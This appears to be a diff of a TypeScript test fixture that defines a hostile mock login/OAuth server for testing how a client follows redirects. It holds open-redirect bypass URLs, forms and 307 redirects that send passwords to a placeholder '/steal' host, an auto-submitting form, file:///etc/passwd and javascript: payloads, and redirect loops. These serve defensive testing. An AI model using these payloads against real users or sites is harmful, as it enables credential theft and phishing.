@@ -1,9 +1,9 @@
 /** Where a server may try to send a client, and what it would take along. */
-import { type Asked, type Mischief, type Place, PLACES, page, redirect } from "./server.js";
+import { type Asked, type Mischief, type Place, page, redirect } from "./server.js";
 
 const form = (action: string, more = ""): string =>
   `<form method="post" action="${action}"><input name="username"><input name="password" type="password"><button ${more}>Sign in</button></form>`;
-const leading = (to: (asked: Asked) => string, status = 302, at: readonly Place[] = PLACES): Mischief => ({
+const leading = (to: (asked: Asked) => string, status = 302, at: readonly Place[] = ["authorize"]): Mischief => ({
   at,
   reply: (_, asked) => redirect(to(asked), status),
 });
@@ -11,68 +11,83 @@ const showing = (markup: (asked: Asked) => string): Mischief => ({
   at: ["login"],
   reply: (_, asked) => page(markup(asked)),
 });
-let hop = 0;
-const pages: readonly Place[] = ["authorize", "login"];
+const afterPassword = (status: number): Mischief => ({
+  at: ["login"],
+  reply: (usual, { form: sent, foreign }) => (sent.has("password") ? redirect(`${foreign}/after`, status) : usual),
+});
+const hostOf = (url: string): string => new URL(url).host;
+const portOf = (url: string): string => new URL(url).port;
 
-export const REDIRECTS: Record<string, Mischief> = {
-  "a loop to itself": leading(({ url }) => url.href),
-  "a loop of two": leading(({ url }) => (url.pathname.startsWith("/login") ? "/authorize" : "/login"), 302, pages),
-  "ever new places": leading(() => `/login/${++hop}`, 302, pages),
-  "places that grow": leading(({ url }) => `/login?${url.search.slice(1)}${"x".repeat(500)}`, 303, pages),
-  "another host, everywhere": leading(({ foreign }) => `${foreign}/302`),
-  "another host, keeping method and body": leading(({ foreign }) => `${foreign}/307`, 307),
-  "another host, for good": leading(({ foreign }) => `${foreign}/308`, 308),
-  "another host without a scheme": leading(({ foreign }) => foreign.slice("http:".length), 302, pages),
-  "another host with backslashes": leading(({ foreign }) => foreign.replace("http://", "\\\\"), 302, pages),
-  "another host behind our name": leading(
-    ({ own, foreign }) => `http://${new URL(own).host}@${new URL(foreign).host}/`,
-    302,
-    pages,
+/** Each leads to another server, one that answers, by a way that the pages of a login may take. */
+export const ELSEWHERE: Record<string, Mischief> = {
+  ...Object.fromEntries(
+    [301, 302, 303, 307, 308].map((status) => [
+      `by status ${status}`,
+      leading(({ foreign }) => `${foreign}/x`, status),
+    ]),
   ),
-  "another host by the name of this machine": leading(
-    ({ foreign }) => `http://localhost:${new URL(foreign).port}/`,
+  "without a scheme": leading(({ foreign }) => foreign.slice("http:".length)),
+  "without a scheme, by backslashes": leading(({ foreign }) => foreign.replace("http://", "\\\\")),
+  "without a scheme, by a slash and a backslash": leading(({ foreign }) => foreign.replace("http://", "/\\")),
+  "without slashes": leading(({ foreign }) => foreign.replace("//", "")),
+  "with a tab in the scheme": leading(({ foreign }) => foreign.replace("ttp", "t\ttp")),
+  "in capitals": leading(({ foreign }) => foreign.replace("http", "HTTP")),
+  "behind our name": leading(({ own, foreign }) => `http://${hostOf(own)}@${hostOf(foreign)}/`),
+  "behind our name and a backslash": leading(({ own, foreign }) => `http://${hostOf(foreign)}\\@${hostOf(own)}/`),
+  "by the name of this machine": leading(({ foreign }) => `http://localhost:${portOf(foreign)}/`),
+  "by the number of this machine": leading(({ foreign }) => `http://2130706433:${portOf(foreign)}/`),
+  "after a hop of our own": leading(
+    ({ place, own, foreign }) => (place === "authorize" ? `${own}/login` : `${foreign}/x`),
     302,
-    pages,
+    ["authorize", "login"],
   ),
-  "another host after the login": {
-    at: ["login"],
-    reply: (usual, { form: sent, foreign }) => (sent.has("password") ? redirect(`${foreign}/after`, 307) : usual),
-  },
-  "another host at the end of the path of ours": leading(
-    ({ own, foreign }) => `${own}/login/..//${new URL(foreign).host}`,
-    302,
-    ["authorize"],
-  ),
-  "a file": leading(() => "file:///etc/passwd"),
-  "a script": leading(() => "javascript:alert(1)"),
-  data: leading(() => "data:text/html,<script>1</script>"),
-  "what is no URL": leading(() => "http://[::1", 302),
-  "two places at once": {
-    at: pages,
+  "before another place that is ours": {
+    at: ["authorize"],
     reply: (_, { foreign, own }) => ({
-      status: 302,
+      ...redirect(`${foreign}/first`),
       headers: [
+        ["location", `${foreign}/first`],
         ["location", `${own}/login`],
-        ["location", `${foreign}/second`],
       ],
-      body: "",
     }),
   },
-  "another host by Refresh": {
-    at: ["login"],
-    reply: (_, { foreign }) => ({ ...page("x"), headers: [["refresh", `0; url=${foreign}/refresh`]] }),
-  },
-  "another host by the page": showing(({ foreign }) => `<meta http-equiv="refresh" content="0; url=${foreign}/meta">`),
-  "another host in a frame": showing(
-    ({ foreign }) => `<iframe src="${foreign}/frame"></iframe><img src="${foreign}/i">`,
+  "after the login": afterPassword(302),
+  "after the login, with the password": afterPassword(307),
+  "by a page that moves": showing(({ foreign }) => `<meta http-equiv="refresh" content="0; url=${foreign}/meta">`),
+  "by a page that moves, from a base": showing(
+    ({ foreign }) => `<base href="${foreign}/"><meta http-equiv="refresh" content="0; url=meta">`,
   ),
-  "the password to another host": showing(({ foreign }) => form(`${foreign}/steal`)),
-  "the password to another host by the button": showing(({ foreign }) =>
-    form("/login", `formaction="${foreign}/steal"`),
-  ),
-  "the password to another host by the base": showing(({ foreign }) => `<base href="${foreign}/">${form("steal")}`),
-  "a form that sends itself to another host": showing(
+  "by the form of the password": showing(({ foreign }) => form(`${foreign}/steal`)),
+  "by the button of the password": showing(({ foreign }) => form("/login", `formaction="${foreign}/steal"`)),
+  "by the base of the password": showing(({ foreign }) => `<base href="${foreign}/">${form("steal")}`),
+  "by a form that sends itself": showing(
     ({ foreign }) =>
       `<body onload="document.forms[0].submit()"><form method="post" action="${foreign}/auto"><input type="hidden" name="code" value="x"></form>`,
   ),
 };
+
+/** What is no place on the web. */
+export const NO_PAGE: Record<string, Mischief> = {
+  "a file": leading(() => "file:///etc/passwd"),
+  "a script": leading(() => "javascript:alert(1)"),
+  data: leading(() => "data:text/html,<script>1</script>"),
+};
+
+let hop = 0;
+/** Places of the server's own, one behind the other, without end. */
+export const ENDLESS: Record<string, Mischief> = {
+  "a place that leads to itself": leading(({ url }) => url.href),
+  "two places that lead to each other": leading(({ place }) => (place === "login" ? "/authorize" : "/login"), 302, [
+    "authorize",
+    "login",
+  ]),
+  "ever new places": leading(() => `/login/${++hop}`, 302, ["authorize", "login"]),
+  "places that grow": leading(({ url }) => `/login?${url.search.slice(1)}${"x".repeat(500)}`, 303, [
+    "authorize",
+    "login",
+  ]),
+};
+
+/** Endpoints whose redirects are answers, which nothing follows. */
+export const ENDPOINTS = ["metadata", "jwks", "token", "introspect", "revoke", "resource"] as const;
+export const answering = (place: Place): Mischief => leading(({ foreign }) => `${foreign}/${place}`, 307, [place]);
